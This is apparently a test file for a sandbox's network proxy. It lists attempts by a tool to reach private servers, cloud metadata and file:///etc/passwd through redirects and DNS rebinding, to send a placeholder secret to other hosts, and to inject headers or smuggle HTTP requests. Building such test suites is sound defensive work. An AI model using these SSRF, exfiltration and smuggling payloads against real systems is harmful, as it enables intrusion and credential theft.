/**
 * Attempts of a tool that was granted `GOOD` (with the secret whose placeholder is `KEY`), `OTHER` and `REBIND`: to reach the private
 * server at `PRIVATE` or the host `UNGRANTED`, and to get the secret's value, or to send it anywhere else. `STOLEN` is the
 * placeholder of another tool's secret, which runs meanwhile. `/redirect?to=` answers with a redirect, `/echo` with all that came.
 */
import { type Attempt, node, python } from "./attempt.ts";

/** Fetches, and gives back all that came. */
const ask = (id: string, url: string, init = "{}"): Attempt =>
  node(id, `const answer = await fetch(${url}, ${init}); return answer.status + answer.url + await answer.text();`);

/** Speaks with the granted server byte by byte. */
const raw = (id: string, text: string): Attempt =>
  python(
    id,
    `import os, socket, urllib.parse
at = urllib.parse.urlsplit(os.environ['PLAIN'])
s = socket.create_connection((at.hostname, at.port), timeout=2)
s.sendall(f"""${text}""".replace('\\n', '\\r\\n').encode())
print(s.recv(10000))`,
  );

const toRedirect = (to: string): string => `env.GOOD + "/redirect?to=" + encodeURIComponent(${to})`;

const REDIRECTS: readonly Attempt[] = [
  ask("redirect-private", toRedirect("env.PRIVATE")),
  ask("redirect-localhost", toRedirect("env.PRIVATE.replace('127.0.0.2', 'localhost')")),
  ask("redirect-number", toRedirect("env.PRIVATE.replace('127.0.0.2', '2130706434')")),
  ask("redirect-mapped", toRedirect("env.PRIVATE.replace('127.0.0.2', '[::ffff:7f00:2]')")),
  ask("redirect-metadata", toRedirect("'http://169.254.169.254/latest/meta-data/'")),
  ask("redirect-ungranted", toRedirect("env.UNGRANTED + '/echo'")),
  ask("redirect-twice", toRedirect(`${toRedirect("env.PRIVATE")}`)),
  ask("redirect-file", toRedirect("'file:///etc/passwd'")),
  node(
    "redirect-by-hand",
    `const answer = await fetch(${toRedirect("env.PRIVATE")}, { redirect: "manual" });
     return (await fetch(answer.headers.get("location"))).text();`,
  ),
  python(
    "redirect-urllib",
    `import os, urllib.request, urllib.parse
print(urllib.request.urlopen(os.environ['GOOD'] + '/redirect?to=' + urllib.parse.quote(os.environ['PRIVATE'], '')).read())`,
  ),
];

const REBINDING: readonly Attempt[] = [
  node(
    "rebind-again-and-again",
    "const got = []; for (let i = 0; i < 6; i++) got.push(await fetch(env.REBIND).then((a) => a.text(), String)); return got.join();",
  ),
  node(
    "rebind-at-once",
    "return (await Promise.allSettled(Array.from({ length: 6 }, () => fetch(env.REBIND).then((a) => a.text())))).map((a) => a.value).join();",
  ),
  ask("rebind-redirect", toRedirect("env.REBIND")),
];

const SECRETS: readonly Attempt[] = [
  ask("secret-echo", "env.GOOD + '/echo'", "{ headers: { 'X-Key': env.KEY } }"),
  ask("secret-echo-in-body", "env.GOOD + '/echo'", "{ method: 'POST', body: 'key=' + env.KEY }"),
  ask("secret-echo-in-query", "env.GOOD + '/echo?key=' + env.KEY"),
  ask("secret-redirect", toRedirect("env.OTHER + '/echo'"), "{ headers: { 'X-Key': env.KEY } }"),
  ask(
    "secret-redirect-body",
    `${toRedirect("env.OTHER + '/echo'")} + "&status=307"`,
    "{ method: 'POST', body: 'key=' + env.KEY }",
  ),
  ask("secret-redirect-location", toRedirect("env.OTHER + '/echo?' + env.KEY")),
  ask("secret-other-host", "env.OTHER + '/echo'", "{ headers: { 'X-Key': env.KEY } }"),
  ask("secret-other-query", "env.OTHER + '/echo?key=' + env.KEY"),
  ask("secret-other-body", "env.OTHER + '/echo'", "{ method: 'POST', body: env.KEY }"),
  ask(
    "secret-other-stream",
    "env.OTHER + '/echo'",
    "{ method: 'POST', duplex: 'half', body: new Blob([env.KEY]).stream() }",
  ),
  ask("secret-other-basic", "env.OTHER + '/echo'", "{ headers: { Authorization: 'Basic ' + btoa('u:' + env.KEY) } }"),
  ask("secret-ungranted", "env.UNGRANTED + '/echo?key=' + env.KEY"),
  ask("secret-plain-http", "env.PLAIN + '/echo'", "{ headers: { 'X-Key': env.KEY } }"),
  ask("secret-in-host", "env.GOOD.replace('a.example', env.KEY + '.a.example')"),
  ask("secret-in-method", "env.GOOD + '/echo'", "{ method: env.KEY }"),
  ask("secret-in-name-of-header", "env.OTHER + '/echo'", "{ headers: { [env.KEY]: '1' } }"),
  ask("stolen-placeholder", "env.GOOD + '/echo'", "{ headers: { 'X-Key': env.STOLEN } }"),
  python(
    "secret-urllib",
    `import os, urllib.request
print(urllib.request.urlopen(urllib.request.Request(os.environ['OTHER'] + '/echo', headers={'X-Key': os.environ['KEY']})).read())`,
  ),
];

const FRAMING: readonly Attempt[] = [
  ask("host-header", "env.GOOD + '/echo'", "{ headers: { Host: 'c.example', ':authority': 'c.example' } }"),
  ask("header-injection-fetch", "env.GOOD + '/echo'", "{ headers: { 'X-A': 'a\\r\\nX-Injected: 1' } }"),
  node(
    "header-injection-http",
    `const { request } = require("https");
     return new Promise((resolve, reject) => {
       const call = request(env.GOOD + "/echo", { headers: { "X-A": "a\\r\\nX-Injected: 1" } }, (answer) => answer.on("data", (data) => resolve(String(data))));
       call.on("error", reject); call.end();
     });`,
  ),
  python(
    "header-injection-http-client",
    `import os, http.client, urllib.parse
http.client._is_legal_header_name = http.client._is_illegal_header_value = lambda _: None
http.client.HTTPConnection._validate_path = http.client.HTTPConnection._validate_method = lambda *_: None
at = urllib.parse.urlsplit(os.environ['PLAIN'])
c = http.client.HTTPConnection(at.hostname, at.port, timeout=2)
c.request('GET', '/echo HTTP/1.1\\r\\nX-Injected: 1\\r\\nX: ', headers={'X-A': 'a\\r\\nX-Injected: 1'})
print(c.getresponse().read())`,
  ),
  raw(
    "smuggle-length-and-chunked",
    "POST /echo HTTP/1.1\nHost: {at.netloc}\nContent-Length: 60\nTransfer-Encoding: chunked\n\n0\n\nGET /smuggled HTTP/1.1\nHost: c.example\nX-Injected: 1\n\n",
  ),
  raw(
    "smuggle-two-lengths",
    "POST /echo HTTP/1.1\nHost: {at.netloc}\nContent-Length: 0\nContent-Length: 60\n\nGET /smuggled HTTP/1.1\nHost: c.example\nX-Injected: 1\n\n",
  ),
  raw("smuggle-folded", "GET /echo HTTP/1.1\nHost: {at.netloc}\nX-A: a\n X-Injected: 1\nX-Injected : 1\n\n"),
  raw("two-hosts", "GET /echo HTTP/1.1\nHost: {at.netloc}\nHost: c.example\n\n"),
  raw("whole-url", "GET http://c.example/smuggled HTTP/1.1\nHost: {at.netloc}\n\n"),
  raw("connect", "CONNECT 127.0.0.2:{at.port} HTTP/1.1\nHost: {at.netloc}\n\nGET /smuggled HTTP/1.1\n\n"),
  raw("upgrade", "GET /echo HTTP/1.1\nHost: {at.netloc}\nConnection: Upgrade, X-A\nUpgrade: websocket\nX-A: 1\n\n"),
];

export const NETWORK_ESCAPES: readonly Attempt[] = [...REDIRECTS, ...REBINDING, ...SECRETS, ...FRAMING];
